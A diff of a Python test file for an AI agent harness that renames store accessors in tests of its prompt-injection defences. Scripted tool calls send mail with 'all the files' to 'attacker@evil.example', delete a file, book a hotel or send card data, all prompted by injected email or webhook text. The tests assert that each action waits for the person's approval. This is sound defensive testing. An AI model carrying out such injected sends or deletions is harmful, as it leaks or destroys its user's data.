@@ -68,17 +68,17 @@ async def test_an_address_injected_in_an_email_makes_sending_ask(
         call_tool("read_email"),
         call_tool("send_email", to="attacker@evil.example", body="all the files"),
     ]
-    task = await store.create_task(
+    task = await store.tasks.create_task(
         TaskSpec(kind="agent", input={"instructions": "Summarise my newest email"}),
         person_id=person.id,
         now=clock.now(),
     )
     await agent_worker(store, harness(workspace, sent, script), clock).run_until_idle()
-    waiting = await store.get_task(task.id)
+    waiting = await store.tasks.get_task(task.id)
     assert waiting.status is TaskStatus.WAITING
     assert waiting.wait is not None
     assert waiting.wait.kind == "approval"
-    [approval] = await store.list_approvals(task_id=task.id)
+    [approval] = await store.inbox.list_approvals(task_id=task.id)
     assert approval.status is ApprovalStatus.PENDING
     assert "untrusted input" in approval.reason
     assert "attacker@evil.example" in approval.reason
@@ -96,7 +96,7 @@ async def test_an_address_the_person_gave_is_not_escalated(
         call_tool("send_email", to="boss@corp.example", body="summary"),
         call_tool("finish", result="done"),
     ]
-    task = await store.create_task(
+    task = await store.tasks.create_task(
         TaskSpec(
             kind="agent",
             input={"instructions": "Summarise my newest email for boss@corp.example"},
@@ -105,7 +105,7 @@ async def test_an_address_the_person_gave_is_not_escalated(
         now=clock.now(),
     )
     await agent_worker(store, harness(workspace, sent, script), clock).run_until_idle()
-    assert (await store.get_task(task.id)).status is TaskStatus.SUCCEEDED
+    assert (await store.tasks.get_task(task.id)).status is TaskStatus.SUCCEEDED
     assert sent == [{"to": "boss@corp.example", "body": "summary"}]
 
 
@@ -115,7 +115,7 @@ async def test_a_payee_from_a_webhook_payload_makes_the_action_ask(
     """A task a trigger started for an event: the event is someone else's text."""
     sent: list[dict[str, Any]] = []
     script = [call_tool("send_email", to="attacker@evil.example", body="invoice paid")]
-    task = await store.create_task(
+    task = await store.tasks.create_task(
         TaskSpec(
             kind="agent",
             input={
@@ -127,7 +127,7 @@ async def test_a_payee_from_a_webhook_payload_makes_the_action_ask(
         now=clock.now(),
     )
     await agent_worker(store, harness(workspace, sent, script), clock).run_until_idle()
-    [approval] = await store.list_approvals(task_id=task.id)
+    [approval] = await store.inbox.list_approvals(task_id=task.id)
     assert "event:invoice" in approval.reason
     assert sent == []
 
@@ -179,7 +179,7 @@ async def run_task(
     harness_: AgentHarness,
     instructions: str,
 ) -> str:
-    task = await store.create_task(
+    task = await store.tasks.create_task(
         TaskSpec(kind="agent", input={"instructions": instructions}),
         person_id=person.id,
         now=clock.now(),
@@ -197,7 +197,7 @@ async def test_a_short_identifier_from_an_injected_email_makes_deleting_ask(
     script = [call_tool("read_email"), call_tool("delete_file", file_id="13")]
     h = files_harness(workspace, done, script)
     task = await run_task(store, clock, person, h, "Summarise my newest email")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert "file_id: '13' only in untrusted content from read_email (step 2)" in approval.reason
     assert done == []
 
@@ -214,7 +214,7 @@ async def test_a_hotel_name_from_an_injected_email_makes_booking_ask(
     ]
     h = files_harness(workspace, done, script)
     task = await run_task(store, clock, person, h, "Plan my 2024 trip; read my newest email")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert "hotel: 'Riverside View Hotel' only in untrusted content" in approval.reason
     assert "day: '2024-05-01' only in untrusted content" in approval.reason
     assert "note" not in approval.reason
@@ -239,7 +239,7 @@ async def test_the_persons_own_values_run_and_the_answer_names_what_it_read(
         h,
         "Delete file 12, then book the Riverside View Hotel for May 1, 2024",
     )
-    finished = await store.get_task(task)
+    finished = await store.tasks.get_task(task)
     assert finished.status is TaskStatus.SUCCEEDED
     assert done == ["deleted 12", "booked Riverside View Hotel on 2024-05-01"]
     # the answer came after reading others' text: it says so, in the result and its step
@@ -247,7 +247,7 @@ async def test_the_persons_own_values_run_and_the_answer_names_what_it_read(
         "text": "Done: the Riverside View Hotel is booked.",
         "untrusted_sources": ["read_email (step 2)"],
     }
-    [last] = [s for s in await store.list_steps(task) if s.kind == "tool"][-1:]
+    [last] = [s for s in await store.activations.list_steps(task) if s.kind == "tool"][-1:]
     assert last.output["untrusted_sources"] == ["read_email (step 2)"]
 
 
@@ -263,7 +263,7 @@ async def test_a_value_a_subtask_read_cannot_steer_its_parent(
     ]
     h = files_harness(workspace, done, script)
     task = await run_task(store, clock, person, h, "Check my mail and act on it")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert "read_email in subtask" in approval.reason
     assert done == []
 
@@ -286,7 +286,7 @@ async def test_card_numbers_leaving_make_the_action_ask(
         model=ScriptedModel(script), workspace=workspace, tools=[send_email], sentinel=AllowAll()
     )
     task = await run_task(store, clock, person, h, "Send my card number to ann@corp.example")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert "your sensitive data would leave (card)" in approval.reason
     assert sent == []
 
@@ -326,7 +326,7 @@ async def test_a_private_memory_leaving_makes_the_action_ask(
         personal=Remembers(),
     )
     task = await run_task(store, clock, person, h, "Tell bob@corp.example the news")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert approval.reason == "your sensitive data would leave (private) and no grant allows it"
     assert sent == ["Team lunch is on Fridays at noon"]
 
@@ -340,7 +340,7 @@ async def test_an_action_asked_about_anyway_still_shows_where_its_values_came_fr
     script = [call_tool("read_email"), call_tool("delete_file", file_id="13")]
     h = files_harness(workspace, done, script, sentinel=DefaultSentinel())
     task = await run_task(store, clock, person, h, "Summarise my newest email")
-    [approval] = await store.list_approvals(task_id=task)
+    [approval] = await store.inbox.list_approvals(task_id=task)
     assert approval.reason == (
         "delete_file acts on the world; untrusted input: file_id: '13' only in untrusted "
         "content from read_email (step 2)"
